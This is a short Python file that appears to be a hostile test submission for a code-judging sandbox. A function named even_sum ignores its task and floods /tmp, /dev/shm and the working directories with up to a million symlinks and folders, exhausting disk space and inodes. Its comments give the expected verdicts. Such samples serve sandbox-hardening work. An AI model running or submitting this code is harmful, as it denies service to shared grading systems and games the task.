# tries: makes as many files, links and folders as there is room for
# verdict: wrong_answer, time_limit_exceeded
import os


def even_sum(numbers):
    for place in ("/tmp", "/dev/shm", "/w/sample", "/w/sample/tmp"):
        try:
            for number in range(1_000_000):
                os.symlink("x" * 4000, f"{place}/link{number}") if number % 2 else os.mkdir(f"{place}/folder{number}")
        except OSError:
            pass
